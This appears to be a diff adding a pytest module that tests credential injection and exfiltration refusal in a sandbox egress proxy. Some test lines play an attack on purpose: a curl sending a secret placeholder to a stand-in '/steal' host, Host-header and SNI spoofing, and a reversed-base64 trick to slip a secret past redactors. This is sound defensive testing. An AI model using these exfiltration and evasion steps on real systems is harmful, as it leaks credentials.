@@ -1,0 +1,435 @@
+"""Credential injection (docs/secrets.md): brigd's egress proxy adds a project's
+rule headers, with secret values the sandbox never holds, to requests toward the
+rule's host, and refuses a secret's placeholder toward any other host.
+
+The "internet" is test_network.py's (brigtest-inet, its DNS zone .test); this
+module adds a server there that records the headers it receives, on api.test
+(198.51.100.30) and second.test (198.51.100.40), HTTP on port 80 and HTTPS on
+443 with certificates of a test CA of its own (which this module's brigd trusts
+upstream through proxy_upstream_ca; the sandboxes do not).  wrong.test has
+second.test's address, so its server shows a certificate for another name.  The
+path /echo sends the request's Authorization header back in the body.
+"""
+
+import base64
+import json
+import os
+import pathlib
+import subprocess
+import sys
+
+import pytest
+
+sys.path.insert(0, os.path.dirname(__file__))
+import brigtest  # noqa: E402
+from test_network import (API_ADDR, INET, SECOND_ADDR, gateway, inet,  # noqa: E402,F401
+                          sandbox_links, sbexec, start_in_hostns, stopped_clean, table_elements)
+
+VALUE = "sk_live_7Hq2vN9xR4tLm8Pw3Zy6Kb1D"  # the real secret
+RULE = {"host": "api.test", "headers": {"Authorization": "Bearer {{secret:API_KEY}}"}}
+
+RECORDER = r'''
+import http.server, json, socketserver, ssl, sys, threading
+LOG = sys.argv[1]
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(LOG, "a") as f:
+            f.write(json.dumps({"server": self.server.server_address[0], "path": self.path,
+                                "headers": dict(self.headers.items())}) + "\n")
+        body = ("auth=%s\n" % self.headers.get("Authorization", "")).encode() \
+            if self.path.startswith("/echo") else b"ok\n"
+        self.send_response(200); self.send_header("Content-Length", str(len(body)))
+        self.end_headers(); self.wfile.write(body)
+    def log_message(self, *a): pass
+class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+    def server_bind(self):
+        socketserver.TCPServer.server_bind(self)
+        self.server_name, self.server_port = self.server_address[:2]
+for spec in sys.argv[2:]:  # ADDR: HTTP on 80; ADDR:CERT:KEY: HTTPS on 443
+    a, *tls = spec.split(":")
+    s = S((a, 443 if tls else 80), H)
+    if tls:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(*tls)
+        s.socket = ctx.wrap_socket(s.socket, server_side=True)
+    threading.Thread(target=s.serve_forever, daemon=True).start()
+print("ready", flush=True)
+threading.Event().wait()
+'''
+
+
+def openssl(*args, cwd):
+    subprocess.run(["openssl", *args], cwd=cwd, check=True, capture_output=True)
+
+
+@pytest.fixture(scope="module")
+def pki(inet):
+    """A test CA and a certificate of it for api.test and second.test."""
+    d = pathlib.Path(inet["tmp"]) / "pki"
+    d.mkdir(exist_ok=True)
+    ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
+    openssl("req", "-x509", *ec, "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj",
+            "/CN=brigtest upstream CA", "-addext", "basicConstraints=critical,CA:TRUE",
+            "-addext", "keyUsage=critical,keyCertSign", cwd=d)
+    for name in ("api.test", "second.test"):
+        (d / f"{name}.ext").write_text(f"subjectAltName=DNS:{name}\n")
+        openssl("req", *ec, "-keyout", f"{name}.key", "-out", f"{name}.csr", "-subj",
+                f"/CN={name}", cwd=d)
+        openssl("x509", "-req", "-in", f"{name}.csr", "-CA", "ca.pem", "-CAkey", "ca.key",
+                "-CAcreateserial", "-days", "2", "-out", f"{name}.pem", "-extfile",
+                f"{name}.ext", cwd=d)
+    return d
+
+
+@pytest.fixture(scope="module")
+def injd(inet, pki):
+    """A brigd of this module's own in the test host namespace, trusting the test CA
+    upstream (test_network's own brigd, module-scoped there, is not running now)."""
+    cfg = pathlib.Path(inet["tmp"]) / "inject.conf"
+    cfg.write_text(f"[brigd]\nproxy_upstream_ca = {pki / 'ca.pem'}\n")
+    d = brigtest.Brigd(os.path.join(inet["tmp"], "brigd-inject"), ["--config", str(cfg)])
+    start_in_hostns(d)
+    yield d
+    stopped_clean(d)
+
+
+@pytest.fixture
+def napi(injd):
+    a = injd.net_api
+    yield a
+    for sb in a.ok("GET", "/v1/sandboxes").json()["sandboxes"]:
+        if sb.get("state") not in ("deleted", "ended"):
+            a.request("DELETE", f"/v1/sandboxes/{sb['id']}")
+    brigtest.wait_for(lambda: sandbox_links() == [], what="sandbox links gone")
+    brigtest.wait_for(lambda: table_elements() == [], what="firewall elements gone")
+    assert not brigtest.leftovers(injd.state_dir)
+    assert "ERROR: AddressSanitizer" not in injd.log()
+
+
+@pytest.fixture(scope="module")
+def recorder(inet, pki):
+    tmp = pathlib.Path(inet["tmp"])
+    (tmp / "recorder.py").write_text(RECORDER)
+    log = tmp / "recorded.jsonl"
+    log.write_text("")
+    tls = [f"{a}:{pki / n}.pem:{pki / n}.key" for a, n in ((API_ADDR, "api.test"),
+                                                         (SECOND_ADDR, "second.test"))]
+    p = subprocess.Popen(["ip", "netns", "exec", INET, "/usr/bin/python3", str(tmp / "recorder.py"),
+                          str(log), API_ADDR, SECOND_ADDR, *tls], stdout=subprocess.PIPE,
+                         text=True)
+    assert p.stdout.readline().strip() == "ready"
+    yield log
+    p.kill()
+    p.wait()
+
+
+def recorded(log):
+    return [json.loads(line) for line in log.read_text().splitlines() if line.strip()]
+
+
+def hidden(value):
+    """A Python expression for value that no redactor recognises (reversed base64)."""
+    return f"__import__('base64').b64decode('{base64.b64encode(value.encode()).decode()[::-1]}'[::-1]).decode()"
+
+
+def project_with_rule(napi, rules=(RULE,)):
+    p = napi.ok("POST", "/v1/projects", {"name": "inject"}).json()["id"]
+    napi.ok("PUT", f"/v1/projects/{p}/secrets/API_KEY", {"value": VALUE}, expect=(204,))
+    r = napi.ok("PUT", f"/v1/projects/{p}/injections", {"rules": list(rules)}).json()
+    assert r["rules"] == list(rules)
+    return p
+
+
+def test_rules_are_for_admin_keys_only(napi):
+    p = project_with_rule(napi)
+    assert napi.ok("GET", f"/v1/projects/{p}/injections").json()["rules"] == [RULE]
+    k = napi.ok("POST", f"/v1/projects/{p}/keys", {"scope": "sandbox"}).json()["key"]
+    sbk = type(napi)(napi.base_url, k)
+    assert sbk.request("GET", f"/v1/projects/{p}/injections").status == 403
+    assert sbk.request("PUT", f"/v1/projects/{p}/injections", {"rules": []}).status == 403
+    for bad in ([{"host": "API.test", "headers": {"A": "b"}}],
+                [{"host": "api.test", "headers": {"Host": "x"}}],
+                [{"host": "api.test", "headers": {"A": "{{secret:bad name}}"}}],
+                [{"host": "api.test", "headers": {"A": "x\r\nB: y"}}],
+                [{"host": "api.test", "headers": {}}], {"host": "api.test"}):
+        r = napi.request("PUT", f"/v1/projects/{p}/injections", {"rules": bad})
+        assert r.status == 400, (bad, r.body)
+        assert "error" in r.json()
+    assert napi.ok("GET", f"/v1/projects/{p}/injections").json()["rules"] == [RULE]
+
+
+@pytest.mark.base
+@pytest.mark.parametrize("scheme", ["http", "https"])
+def test_injection_from_curl_python_and_node(napi, recorder, scheme):
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    rc, ph = sbexec(napi, sb, "printenv API_KEY")
+    assert rc == 0 and ph.startswith("brig-placeholder-"), ph
+    ph = ph.strip()
+    # over HTTPS, each client trusts the brig CA that signed the proxy's certificate
+    # (the system store or the variables brigd sets), never the upstream's test CA
+    u = f"{scheme}://api.test/"
+    clients = {
+        "curl": f'curl -sS -m 5 -H "Authorization: Bearer $API_KEY" {u}curl-{scheme}',
+        "python": "python3 -c \"import os, urllib.request as u; print(u.urlopen(u.Request("
+                  f"'{u}python-{scheme}', headers={{'Authorization': 'Bearer ' + "
+                  "os.environ['API_KEY']}), timeout=5).read().decode())\"",
+        "node": f"node -e \"fetch('{u}node-{scheme}', {{headers: {{Authorization: 'Bearer ' + "
+                "process.env.API_KEY}}).then(r => r.text()).then(t => console.log(t))\"",
+    }
+    for name, cmd in clients.items():
+        rc, out = sbexec(napi, sb, cmd)
+        assert rc == 0 and out.strip() == "ok", (name, out)
+        got = [r for r in recorded(recorder) if r["path"] == f"/{name}-{scheme}"]
+        assert got and got[-1]["headers"]["Authorization"] == f"Bearer {VALUE}", (name, got)
+    # the sandbox never held the value: no process's environment, no file it has
+    scan = (f"import glob, os; v = {hidden(VALUE)}.encode(); n = 0\n"
+            "for f in glob.glob('/proc/[0-9]*/environ'):\n"
+            "    try: n += v in open(f, 'rb').read()\n"
+            "    except OSError: pass\n"
+            "for top in ('/tmp', '/root', '/home', '/etc', '/var', '/usr/local', '/opt'):\n"
+            "    for d, _, fs in os.walk(top):\n"
+            "        for f in fs:\n"
+            "            try: n += v in open(os.path.join(d, f), 'rb').read()\n"
+            "            except OSError: pass\n"
+            "print(n)")
+    r = napi.exec(sb, argv=["python3", "-c", scan], timeout=60)
+    assert (r["exit_code"], r["stdout"].strip()) == (0, "0"), r
+    log = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    used = [e for e in log if e["kind"] == "proxy" and e["verdict"] == "injected"]
+    assert {e["path"] for e in used} >= {f"/{c}-{scheme}" for c in clients}, log
+    assert {e["scheme"] for e in used} == {scheme}
+    assert all(e["host"] == "api.test" and e["secrets"] == ["API_KEY"] for e in used)
+    assert VALUE not in json.dumps(log)
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_placeholder_toward_another_host_is_refused_and_logged(napi, recorder):
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    before = len(recorded(recorder))
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -w "%{http_code}" -H "X-Key: $API_KEY" '
+                               'http://second.test/steal')
+    assert out.endswith("403") and "placeholder of API_KEY" in out, out
+    # the address of another host with api.test's name: no injection either
+    rc, out = sbexec(napi, sb, f'curl -sS -m 5 -w "%{{http_code}}" -H "Host: api.test" '
+                               f'http://{SECOND_ADDR}/spoof')
+    assert out.endswith("403") and "does not resolve" in out, out
+    assert not [r for r in recorded(recorder)[before:] if r["path"] in ("/steal", "/spoof")]
+    # without a placeholder, a host without a rule is reached untouched
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -H "Authorization: Bearer mine" http://second.test/plain')
+    assert out.strip() == "ok", out
+    plain = [r for r in recorded(recorder) if r["path"] == "/plain"][-1]
+    assert plain["headers"]["Authorization"] == "Bearer mine"
+    log = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    refused = [e for e in log if e["kind"] == "proxy" and e["verdict"] == "refused"]
+    assert any(e["host"] == "second.test" and e["path"] == "/steal" for e in refused), log
+    napi.delete(sb)
+
+
+@pytest.mark.base
+@pytest.mark.parametrize("scheme", ["http", "https"])
+def test_an_echoed_secret_is_masked_before_the_sandbox_sees_it(napi, recorder, scheme):
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    # into a file, not stdout: the exec output's own redactor must not be what hides it
+    rc, out = sbexec(napi, sb, f"curl -sS -m 5 -o /tmp/echo {scheme}://api.test/echo && "
+                               f"python3 -c \"d = open('/tmp/echo').read(); "
+                               f"print(len(d), {hidden(VALUE)} in d, '[REDACTED:API_KEY]' in d)\"")
+    assert rc == 0 and out.split() == [str(len(f"auth=Bearer {VALUE}\n")), "False", "True"], out
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_rules_apply_to_running_sandboxes_and_stop_when_removed(napi, recorder):
+    p = project_with_rule(napi, rules=())
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    rc, out = sbexec(napi, sb, "printenv API_KEY")
+    assert out.strip() == VALUE.replace(VALUE, "[REDACTED:API_KEY]"), out  # plain env: no rule
+    napi.ok("PUT", f"/v1/projects/{p}/injections", {"rules": [RULE]})
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -H "Authorization: x" http://api.test/late')
+    assert out.strip() == "ok", out
+    assert [r for r in recorded(recorder) if r["path"] == "/late"][-1]["headers"][
+        "Authorization"] == f"Bearer {VALUE}"
+    napi.ok("PUT", f"/v1/projects/{p}/injections", {"rules": []})
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -H "Authorization: x" http://api.test/off')
+    assert out.strip() == "ok", out
+    assert [r for r in recorded(recorder) if r["path"] == "/off"][-1]["headers"][
+        "Authorization"] == "x"
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_https_without_a_rule_is_relayed_untouched_and_a_bad_upstream_refused(napi, recorder):
+    wrong = {"host": "wrong.test", "headers": {"Authorization": "Bearer {{secret:API_KEY}}"}}
+    p = project_with_rule(napi, rules=(RULE, wrong))
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    # second.test has no rule: its own certificate (the test CA's, which the sandbox
+    # does not trust: -k) reaches the sandbox, and its headers are the sandbox's
+    rc, out = sbexec(napi, sb, 'curl -sS -kv -m 5 -H "Authorization: Bearer mine" '
+                               'https://second.test/relayed')
+    assert rc == 0 and "brigtest upstream CA" in out and out.startswith("ok\n"), out
+    got = [r for r in recorded(recorder) if r["path"] == "/relayed"][-1]
+    assert got["headers"]["Authorization"] == "Bearer mine"
+    # wrong.test's server shows a certificate for second.test: the proxy refuses it
+    before = len(recorded(recorder))
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -w "%{http_code}" https://wrong.test/bad')
+    assert out.endswith("502") and "does not verify" in out, out
+    assert not [r for r in recorded(recorder)[before:] if r["path"] == "/bad"]
+    log = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    assert any(e["kind"] == "proxy" and e["verdict"] == "refused" and e["host"] == "wrong.test"
+               for e in log), log
+    # the SNI names the rule's host, the Host header another: refused
+    rc, out = sbexec(napi, sb, 'curl -sS -m 5 -w "%{http_code}" -H "Host: second.test" '
+                               'https://api.test/mixed')
+    assert out.endswith("421"), out
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_per_step_credentials_expire(napi, recorder):
+    temp = {"host": "api.test", "headers": {"X-Temp": "{{secret:TEMP_KEY}}"}}
+    p = project_with_rule(napi, rules=(RULE, temp))
+    napi.ok("PUT", f"/v1/projects/{p}/secrets/TEMP_KEY", {"value": "tmp_4Xk9Qw2Lr7Zp"},
+            expect=(204,))
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    curl = 'curl -sS -m 5 -w " %{http_code}" -H "X-Temp: $TEMP_KEY" http://api.test/'
+
+    def step(path, creds=None):
+        body = {"cmd": curl + path + '; echo " $TEMP_KEY"'}
+        if creds is not None:
+            body["credentials"] = creds
+        return napi.ok("POST", f"/v1/sandboxes/{sb}/exec", body).json()
+
+    # granted for this step (the project's secret of that name), a placeholder in the env
+    r = step("granted", {"TEMP_KEY": {"ttl_seconds": 1}})
+    assert " 200 brig-placeholder-" in r["stdout"], r
+    assert [x for x in recorded(recorder) if x["path"] == "/granted"][-1]["headers"][
+        "X-Temp"] == "tmp_4Xk9Qw2Lr7Zp"
+    # a second of life: then the proxy refuses, and says why
+    brigtest.wait_for(lambda: "expired" in step("later")["stdout"], timeout=10,
+                      what="the credential to expire")
+    r = step("later")
+    assert " 403 " in r["stdout"] and "TEMP_KEY expired" in r["stdout"], r
+    # a value given just for this step
+    r = step("inline", {"TEMP_KEY": {"ttl_seconds": 60, "value": "given-just-now-77"}})
+    assert " 200 " in r["stdout"], r
+    assert [x for x in recorded(recorder) if x["path"] == "/inline"][-1]["headers"][
+        "X-Temp"] == "given-just-now-77"
+    # names no rule uses, the sandbox's own secrets, bad TTLs: 400 before anything runs
+    for creds in ({"OTHER": {"ttl_seconds": 5}}, {"API_KEY": {"ttl_seconds": 5}},
+                  {"TEMP_KEY": {"ttl_seconds": 0}}, {"TEMP_KEY": {"ttl": 5}}, {"TEMP_KEY": 5}):
+        rr = napi.request("POST", f"/v1/sandboxes/{sb}/exec", {"cmd": "true", "credentials": creds})
+        assert rr.status == 400, (creds, rr.body)
+    log = napi.ok("GET", f"/v1/sandboxes/{sb}/network-log").json()["entries"]
+    grants = [e for e in log if e["kind"] == "proxy" and e["verdict"] == "granted"]
+    assert [g["secrets"] for g in grants] == [["TEMP_KEY"], ["TEMP_KEY"]], log
+    assert any(e["verdict"] == "refused" and "expired" in e["reason"] for e in log
+               if e["kind"] == "proxy")
+    assert "tmp_4Xk9Qw2Lr7Zp" not in json.dumps(log) and "given-just-now-77" not in json.dumps(log)
+    napi.delete(sb)
+
+
+@pytest.mark.base
+def test_a_sandbox_reaches_only_its_own_proxy(napi, recorder):
+    p = project_with_rule(napi)
+    a = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    b = napi.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    b_gw = gateway(napi, b)
+    for port in (15080, 15443):  # b's proxy, from a: dropped (curl times out, 28)
+        rc, out = sbexec(napi, a, f"curl -sS -m 2 -o /dev/null http://{b_gw}:{port}/")
+        assert rc == 28, out
+    # a's own, addressed directly, is the same proxy its redirect reaches: the policy
+    # applies to where it would go (its own gateway: never), nothing is relayed
+    rc, out = sbexec(napi, a, f"curl -sS -m 2 -w ' %{{http_code}}' http://{gateway(napi, a)}:15080/")
+    assert out.endswith(" 403") and "egress policy" in out, out
+    napi.delete(a)
+    napi.delete(b)
+
+
+BENCH = r'''
+import http.client, json, ssl, statistics, sys, time
+scheme, n = sys.argv[1], int(sys.argv[2])
+ctx = ssl.create_default_context(cafile=sys.argv[3] if len(sys.argv) > 3 else None)
+def one():
+    t = time.perf_counter()
+    c = (http.client.HTTPSConnection("api.test", context=ctx, timeout=5) if scheme == "https"
+         else http.client.HTTPConnection("api.test", timeout=5))
+    c.request("GET", "/bench", headers={"Authorization": "Bearer x"}); r = c.getresponse()
+    assert r.status == 200, r.status
+    r.read(); c.close()
+    return (time.perf_counter() - t) * 1000
+for _ in range(5): one()
+ts = sorted(one() for _ in range(n))
+print(json.dumps({"p50": round(statistics.median(ts), 2), "p90": round(ts[int(n * 0.9)], 2)}))
+'''
+
+
+@pytest.mark.base
+@pytest.mark.skipif(os.environ.get("BRIG_BENCH_INJECT") != "1",
+                    reason="a measurement (docs/benchmarks.md): BRIG_BENCH_INJECT=1")
+def test_bench_proxy_latency(napi, recorder, pki):
+    """A new connection per request, from Python in the sandbox: through the proxy with
+    injection, and the same request from a sandbox of a project without rules (direct,
+    trusting the test CA itself)."""
+    n = int(os.environ.get("BRIG_BENCH_N", "200"))
+    direct = napi.ok("POST", "/v1/projects", {"name": "direct"}).json()["id"]
+    sbs = {"proxied": napi.create(template="base", project=project_with_rule(napi),
+                                  secret_refs=["API_KEY"])["id"],
+           "direct": napi.create(template="base", project=direct)["id"]}
+    napi.put_file(sbs["direct"], "/tmp/ca.pem", (pki / "ca.pem").read_bytes())
+    for sb in sbs.values():
+        napi.put_file(sb, "/tmp/bench.py", BENCH.encode())
+    out = {}
+    for scheme in ("http", "https"):
+        for kind, sb in sbs.items():
+            argv = ["python3", "/tmp/bench.py", scheme, str(n)]
+            if kind == "direct" and scheme == "https":
+                argv.append("/tmp/ca.pem")
+            r = napi.exec(sb, argv=argv, timeout=300)
+            assert r["exit_code"] == 0, r
+            out[f"{scheme} {kind}"] = json.loads(r["stdout"])
+    print("\nBENCH", json.dumps(out))
+    for sb in sbs.values():
+        napi.delete(sb)
+
+
+@pytest.mark.base
+def test_rules_survive_a_brigd_restart(injd, recorder):
+    """A sandbox outlives brigd's restart: its rules, placeholders and proxy come back
+    (the same placeholder: it is derived from the master key)."""
+    a = injd.net_api
+    p = project_with_rule(a)
+    sb = a.create(template="base", project=p, secret_refs=["API_KEY"])["id"]
+    ph = sbexec(a, sb, "printenv API_KEY")[1]
+    injd.stop()
+    start_in_hostns(injd)
+    a = injd.net_api
+    try:
+        assert sbexec(a, sb, "printenv API_KEY")[1] == ph
+        for scheme in ("http", "https"):
+            rc, out = sbexec(a, sb, f'curl -sS -m 5 -H "Authorization: x" '
+                                    f'{scheme}://api.test/restarted-{scheme}')
+            assert out.strip() == "ok", out
+            got = [r for r in recorded(recorder) if r["path"] == f"/restarted-{scheme}"][-1]
+            assert got["headers"]["Authorization"] == f"Bearer {VALUE}"
+    finally:
+        a.delete(sb)
+        brigtest.wait_for(lambda: sandbox_links() == [], what="sandbox links gone")
+
+
+@pytest.mark.base
+def test_injection_in_a_gvisor_sandbox(napi, recorder):
+    """gVisor's own network stack reaches the same redirect and proxy."""
+    brigtest.needs_gvisor(napi)
+    p = project_with_rule(napi)
+    sb = napi.create(template="base", project=p, secret_refs=["API_KEY"], isolation="gvisor")["id"]
+    for scheme in ("http", "https"):
+        rc, out = sbexec(napi, sb, f'curl -sS -m 10 -H "Authorization: Bearer $API_KEY" '
+                                   f'{scheme}://api.test/gvisor-{scheme}', timeout=60)
+        assert out.strip() == "ok", out
+        got = [r for r in recorded(recorder) if r["path"] == f"/gvisor-{scheme}"][-1]
+        assert got["headers"]["Authorization"] == f"Bearer {VALUE}"
+    napi.delete(sb)
